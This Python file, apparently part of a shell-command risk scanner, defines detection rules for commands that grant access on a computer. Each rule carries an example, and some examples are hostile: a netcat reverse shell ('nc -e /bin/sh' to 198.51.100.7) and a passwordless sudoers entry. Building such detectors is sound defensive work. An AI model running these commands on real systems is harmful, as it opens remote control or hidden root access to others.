"""Who may get into a computer and what they may do there: accounts, groups, sudo, ssh keys, scheduled programs. Source: the manual pages."""

from __future__ import annotations

from riskscan.knowledge.shell.command import Command
from riskscan.model.asset import AssetKind
from riskscan.model.effect import Operation, Scope, Trait, Undo

MAN = "https://man7.org/linux/man-pages/"
_GROUPS = "{o}=*sudo*|{o}=*wheel*|{o}=admin|{o}=root"


def _groups(*options: str) -> str:
    return "|".join(_GROUPS.format(o=o) for o in options)


ROWS = (
    Command(id="shell/admin-group", operation=Operation.GRANT, verb="grant", kind=AssetKind.IDENTITY, scope=Scope.ONE, undo=Undo.YES, traits=(Trait.ADMIN,), plain="It lets {name} do anything on that computer.", program=("usermod", "useradd"), needs=(_groups("-G", "-aG", "--groups", "-g"),), named_by=("last",), example="usermod -aG sudo anna", expect=("grant identity:anna one",), near_misses=("usermod -aG editors anna", "groups anna"), source=MAN + "man8/usermod.8.html"),
    Command(id="shell/admin-member", operation=Operation.GRANT, verb="grant", kind=AssetKind.IDENTITY, scope=Scope.ONE, undo=Undo.YES, traits=(Trait.ADMIN,), plain="It lets {name} do anything on that computer.", program=("adduser",), words=("*", "sudo|wheel|admin|root"), named_by=("word0",), example="adduser anna sudo", expect=("grant identity:anna one",), near_misses=("adduser anna editors", "adduser anna"), source="https://manpages.debian.org/stable/adduser/adduser.8.en.html"),
    Command(id="shell/password-set", operation=Operation.GRANT, verb="set_password", kind=AssetKind.IDENTITY, scope=Scope.SOME, undo=Undo.WITH_WORK, plain="It sets passwords of accounts on that computer.", program=("chpasswd",), named_by=(), default="accounts", example="chpasswd < new.txt", expect=("grant identity:accounts some",), near_misses=("passwd --status anna",), source=MAN + "man8/chpasswd.8.html"),
    Command(id="shell/access-file", operation=Operation.GRANT, verb="update", kind=AssetKind.FILE, scope=Scope.ONE, undo=Undo.WITH_WORK, traits=(Trait.ADMIN,), plain="It changes {name}, which says who may do what on that computer.", program=("tee",), logic=True, example="echo 'anna ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", expect=("grant file:/etc/sudoers one",), near_misses=("cat /etc/sudoers", "echo x >> /etc/hosts", "visudo -c"), source=MAN + "man5/sudoers.5.html"),
    Command(id="shell/key-file", operation=Operation.GRANT, verb="append", kind=AssetKind.FILE, scope=Scope.ONE, undo=Undo.YES, plain="It lets the owner of a key log in ({name}).", program=("ssh-copy-id",), named_by=("last",), logic=True, example="cat anna.pub >> ~/.ssh/authorized_keys", expect=("grant file:~/.ssh/authorized_keys one",), near_misses=("cat ~/.ssh/authorized_keys", "ssh-keygen -t ed25519 -f key"), source="https://man.openbsd.org/sshd#AUTHORIZED_KEYS_FILE_FORMAT"),
    Command(id="shell/remote-shell", operation=Operation.GRANT, verb="open", kind=AssetKind.SERVER, scope=Scope.ALL, undo=Undo.NO, traits=(Trait.ADMIN, Trait.PUBLIC), plain="It lets whoever is at {name} work on this computer, as an attacker would.", program=("nc", "ncat", "netcat"), needs=("-e|--exec|--sh-exec|-c=*sh*",), named_by=(0,), default="the other end", example="nc -e /bin/sh 198.51.100.7 4242", expect=("grant server:198.51.100.7 all",), near_misses=("nc -zv db.example.com 5432", "bash -c 'echo > /dev/tcp/db.example.com/5432'", "exec 3<>/dev/tcp/db.example.com/80"), source="https://nmap.org/ncat/guide/ncat-exec.html"),
    Command(id="shell/at-job", operation=Operation.CREATE, verb="schedule", kind=AssetKind.JOB, scope=Scope.ONE, undo=Undo.YES, plain="It runs commands at a later time, when nobody watches.", program=("at", "batch", "systemd-run"), named_by=("-f", "--file", "--unit"), default="a later command", without=("-l|-r|-d|-c",), example="at -f close_month.sh midnight", expect=("create job:close_month.sh one",), near_misses=("at -l", "atq"), source=MAN + "man1/at.1p.html"),
)  # fmt: skip
